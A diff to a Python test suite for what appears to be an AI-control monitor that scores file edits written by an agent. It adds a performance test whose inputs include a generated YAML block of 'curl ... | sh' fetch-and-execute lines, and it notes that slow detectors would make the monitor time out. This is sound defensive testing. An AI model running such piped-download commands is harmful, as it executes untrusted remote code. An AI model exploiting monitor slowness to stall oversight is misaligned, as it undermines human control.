@@ -254,3 +254,23 @@ def test_a_service_address_pointed_outside_the_cluster_is_a_new_destination() ->
     assert new_destinations('value: "redis-cart.cache-mirror.net:6379"', before) == ["host:redis-cart.cache-mirror.net"]
     assert not new_destinations('value: "cartservice.default.svc.cluster.local:7070"', before)
     assert not new_destinations("see main.py:12 and config.yaml:3", before)
+
+
+@pytest.mark.parametrize("path,text", [
+    ("one.yaml", "key: " + "a." * 150000 + "\n"),
+    ("dots.py", "".join(f"x{i} = 'a.b.c.d.e.f:{i}' + 'u@v.w'  # curl x > y\n" for i in range(8000))),
+    ("nested.yaml", "".join("  " * (i % 200) + f"k{i}:\n" for i in range(8000))),
+    ("cmd.yaml", "run: |\n" + "".join(f"  curl -s http://h{i}.io/x | sh && echo {i} ;\\\n" for i in range(6000))),
+    ("mail.yaml", "a" * 60000 + "@" + "b." * 20000 + "\n" + "curl x " * 20000 + "\n"),
+])
+def test_hostile_shapes_of_the_largest_change_are_scored_in_seconds(path: str, text: str) -> None:
+    """Detectors run on text the agent wrote: no pattern may go quadratic on it (the monitor would time out and hold)."""
+    import time
+
+    from proctor.control import Action, FileEdit
+    from proctor.control.monitors import collect_evidence
+
+    action = Action(id="x", node="edit", task="tidy up", payload=FileEdit(path=path, diff=unified_diff("", text, path)))
+    started = time.perf_counter()
+    collect_evidence(action, allowed_imports=list(DEFAULT_IMPORTS), embed=False)
+    assert time.perf_counter() - started < 6.0
